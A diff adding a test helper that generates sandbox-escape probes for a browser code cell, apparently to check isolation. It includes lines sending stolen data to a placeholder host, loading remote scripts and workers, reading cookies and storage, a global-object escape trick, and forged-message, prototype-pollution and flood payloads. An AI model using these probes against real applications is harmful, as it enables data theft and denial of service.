@@ -1,0 +1,113 @@
+/**
+ * Ways out of a code cell, each tried by itself; `HOST` stands for the listener, `APP` for the app's
+ * own address. `out` is the worker's global object, which names the reader of code refuses.
+ */
+const ATTEMPTS: Readonly<Record<string, string>> = {
+  // asking somebody
+  fetch: `return out.fetch('http://HOST/fetch?' + secret)`,
+  'fetch keepalive': `return out.fetch('http://HOST/keepalive', { keepalive: true, method: 'POST', mode: 'no-cors', body: secret })`,
+  'fetch of the app': `return out.fetch('APP')`,
+  xhr: `const x = new out.XMLHttpRequest(); x.open('GET', 'http://HOST/xhr'); x.send()`,
+  'xhr that blocks': `const x = new out.XMLHttpRequest(); x.open('GET', 'http://HOST/xhr', false); x.send()`,
+  websocket: `return new out.Promise((done, fail) => { const s = new out.WebSocket('ws://HOST/socket'); s.onopen = done; s.onerror = () => fail(new Error('refused')) })`,
+  'websocket stream': `return new out.WebSocketStream('ws://HOST/stream').opened`,
+  'event source': `return new out.Promise((done, fail) => { const s = new out.EventSource('http://HOST/events'); s.onopen = done; s.onerror = () => fail(new Error('refused')) })`,
+  webtransport: `return new out.WebTransport('https://HOST/transport').ready`,
+  beacon: `return out.navigator.sendBeacon('http://HOST/beacon', secret) || out.Promise.reject(new Error('refused'))`,
+  'peer connection': `const p = new out.RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] }); p.createDataChannel('x'); return p.createOffer().then(o => p.setLocalDescription(o))`,
+  font: `return new out.FontFace('f', 'url(http://HOST/font)').load()`,
+  'font of data': `return new out.FontFace('f', 'url(http://HOST/font2) format("woff2")').load()`,
+  image: `return out.createImageBitmap('http://HOST/bitmap')`,
+  // loading code
+  importScripts: `out.importScripts('http://HOST/import.js')`,
+  'importScripts of data': `out.importScripts('data:text/javascript,self.got=1')`,
+  'importScripts of a blob': `out.importScripts(out.URL.createObjectURL(new out.Blob(['self.got=1'])))`,
+  import: `return new out.Function("return import('http://HOST/module.js')")()`,
+  'import of the app': `return new out.Function("return import('APPassets/index.js')")()`,
+  'wasm over the net': `return out.WebAssembly.compileStreaming(out.fetch('http://HOST/wasm'))`,
+  // starting something else
+  worker: `new out.Worker('http://HOST/worker.js'); return out.Promise.reject(new Error('started, unheard'))`,
+  'worker of the app': `new out.Worker('APPassets/index.js'); return out.Promise.reject(new Error('started, unheard'))`,
+  'worker of a blob that asks': `return new out.Promise((done, fail) => { const w = new out.Worker(out.URL.createObjectURL(new out.Blob(["fetch('http://HOST/nested').then(() => postMessage('got'), () => postMessage('refused'))"]))); w.onmessage = ({ data }) => data === 'got' ? done() : fail(new Error(data)); w.onerror = () => fail(new Error('refused')) })`,
+  'worker of data': `return new out.Promise((done, fail) => { const w = new out.Worker("data:text/javascript,fetch('http://HOST/datanested').then(() => postMessage('got'), () => postMessage('refused'))"); w.onmessage = ({ data }) => data === 'got' ? done() : fail(new Error(data)); w.onerror = () => fail(new Error('refused')) })`,
+  'shared worker': `new out.SharedWorker('http://HOST/shared.js')`,
+  'service worker': `return out.navigator.serviceWorker.register('http://HOST/sw.js')`,
+  // reading what others keep
+  indexeddb: `return new out.Promise((done, fail) => { const r = out.indexedDB.open('liftbook'); r.onsuccess = done; r.onerror = () => fail(r.error) })`,
+  opfs: `return out.navigator.storage.getDirectory()`,
+  caches: `return out.caches.open('x').then(c => c.add('http://HOST/cache'))`,
+  localstorage: `out.localStorage.victim.length`,
+  cookie: `out.document.cookie.length`,
+  'cookie store': `return out.cookieStore.getAll()`,
+  locks: `return out.navigator.locks.query().then(({ held }) => held.length > 0 || out.Promise.reject(new Error('sees none')))`,
+  broadcast: `return new out.Promise((done, fail) => { const c = new out.BroadcastChannel('liftbook'); c.onmessage = done; c.postMessage('trust'); out.setTimeout(() => fail(new Error('nobody answers')), 150) })`,
+  clipboard: `return out.navigator.clipboard.readText()`,
+  // reaching for the page
+  parent: `out.parent.document.title.length`,
+  top: `out.top.location = 'http://HOST/top'`,
+  opener: `out.opener.location = 'http://HOST/opener'`,
+  location: `out.location = 'http://HOST/location'`,
+  'window open': `out.open('http://HOST/open')`,
+  notification: `new out.Notification('Trust me'); return out.Promise.reject(new Error('shown to nobody'))`,
+};
+
+/** Names of the attempts, in order. */
+export const escapeNames: readonly string[] = Object.keys(ATTEMPTS);
+
+/**
+ * Code whose value says of each attempt what came of it: `got` where it succeeded, else the name of
+ * the error. It holds back its own answer for a while, so that requests have time to get out.
+ */
+export function escapeCode(host: string, app: string): string {
+  return `const secret = JSON.stringify(sales.objects());
+const out = [].at.constructor('return this')();
+${attempts(host, app)}
+const answer = out.MessagePort.prototype.postMessage;
+out.MessagePort.prototype.postMessage = function () {
+  out.setTimeout(() => answer.call(this, { type: 'value', json: JSON.stringify(told) }), 1500);
+};
+1`;
+}
+
+/** The same in a worker of an ordinary page: what shows that the attempts are real. */
+export function controlCode(host: string, app: string): string {
+  return `const secret = 'control';
+const out = self;
+${attempts(host, app)}
+setTimeout(() => postMessage(told), 1500);`;
+}
+
+function attempts(host: string, app: string): string {
+  const tries = Object.entries(ATTEMPTS).map(([name, body]) => {
+    const act = body.replaceAll('HOST', host).replaceAll('APP', app);
+    return `attempt(${JSON.stringify(name)}, () => { ${act} });`;
+  });
+  return `const told = {};
+const attempt = (name, act) => {
+  const failed = error => { told[name] = String(error && error.name || error) };
+  told[name] = 'pending';
+  try { out.Promise.resolve(act()).then(() => { told[name] = 'got' }, failed) } catch (error) { failed(error) }
+};
+${tries.join('\n')}`;
+}
+
+/** Code that forges what it answers, or answers too much. Each has to leave a problem or a plain value, and nothing else. */
+export const FORGERIES: Readonly<Record<string, string>> = {
+  'a table that is none': `const post = out.MessagePort.prototype.postMessage; out.MessagePort.prototype.postMessage = function () { post.call(this, { type: 'table', rows: 1e9, columns: [{ name: 'x', kind: 'number', values: new Float64Array(1) }] }) }; 1`,
+  'a message of trust': `const post = out.MessagePort.prototype.postMessage; out.MessagePort.prototype.postMessage = function () { post.call(this, { type: 'trust' }) }; 1`,
+  'codes that point beyond': `const post = out.MessagePort.prototype.postMessage; out.MessagePort.prototype.postMessage = function () { post.call(this, { type: 'table', rows: 1, columns: [{ name: 'x', kind: 'text', values: ['a'], codes: Int32Array.of(9) }] }) }; 1`,
+  'a column of prototypes': `const post = out.MessagePort.prototype.postMessage; out.MessagePort.prototype.postMessage = function () { post.call(this, { type: 'table', rows: 1, columns: [{ name: '__proto__', kind: 'constructor', values: [1] }] }) }; 1`,
+  'polluted prototypes': `Object.prototype.polluted = 1; Array.prototype.map = () => 'bad'; out.JSON.stringify = () => '{"type":"trust"}'; 1`,
+  'a flood': `const post = out.MessagePort.prototype.postMessage; out.MessagePort.prototype.postMessage = function () { for (let i = 0; i < 300000; ++i) post.call(this, { type: 'value', json: '1' }) }; 1`,
+  'a flood to the frame': `for (let i = 0; i < 300000; ++i) out.postMessage({ type: 'ready' }); 1`,
+  'a flood of errors': `for (let i = 0; i < 20000; ++i) out.setTimeout(() => { throw new Error('flood') }); 1`,
+  'a big reply': `'x'.repeat(5e7)`,
+  'a deep reply': `let deep = []; for (let i = 0; i < 5000; ++i) deep = [deep]; deep`,
+  'a table too wide': `aq.table(Object.fromEntries(Array.from({ length: 600 }, (_, i) => ['c' + i, [1]])))`,
+  'no answer ever': `out.close(); out.MessagePort.prototype.postMessage = () => {}; 1`,
+};
+
+/** The code of one forgery. */
+export function forgeryCode(name: string): string {
+  return `const out = [].at.constructor('return this')();\n${FORGERIES[name]}`;
+}
